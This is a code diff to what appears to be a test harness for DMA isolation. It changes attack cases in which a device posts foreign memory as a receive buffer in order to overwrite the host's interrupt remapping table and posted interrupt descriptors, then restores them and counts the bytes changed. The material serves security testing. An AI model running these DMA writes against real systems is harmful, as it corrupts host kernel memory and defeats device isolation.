@@ -21,9 +21,9 @@ def steal(stage: Stage, target: Region) -> int:
     return target.stolen(stage.take_heard())
 
 
-def overwrite(stage: Stage, target: Region, at: int = 0) -> int:
+def overwrite(stage: Stage, target: Region) -> int:
     """Post foreign memory as a receive buffer, and have the accomplice fill it; return the bytes that changed."""
-    stage.attacker.arm_receive([target.address + at])
+    stage.attacker.arm_receive([target.address])
     stage.inject(stage.attacker.mac, 8 * _JUNK)
     stage.pump()
     return target.changed()
@@ -64,13 +64,17 @@ def write_tables(stage: Stage) -> Result:
     return Result(sum(spoilt.values()), {f"{name}_bytes_changed": count for name, count in spoilt.items()})
 
 
-@attempt("dma-write-interrupt-table", "writes the interrupt remapping table, whose address has leaked")
+@attempt("dma-write-interrupt-table", "writes interrupt remapping table and posted interrupt descriptors")
 def write_interrupt_table(stage: Stage) -> Result:
-    """Write the interrupt remapping table."""
-    table = stage.region(stage.interrupts.address, PAGE)
-    spoilt = overwrite(stage, table)
-    table.restore()
-    return Result(spoilt, {"entries_there": len(stage.interrupts.entries())})
+    """Write the interrupt remapping table, and the descriptors that it leads to, whose addresses have leaked."""
+    spoilt = {}
+    stage.quiet()
+    for name, address in (("table", stage.interrupts.address), ("descriptors", stage.interrupts.descriptors)):
+        region = stage.region(address, PAGE)
+        spoilt[name] = overwrite(stage, region)
+        region.restore()
+    evidence: dict[str, int | float] = {f"{name}_bytes_changed": count for name, count in spoilt.items()}
+    return Result(sum(spoilt.values()), {"entries_there": len(stage.interrupts.entries()), **evidence})
 
 
 @attempt("receive-ring-outside", "puts its receive ring into the host's memory, where the device writes done bits")
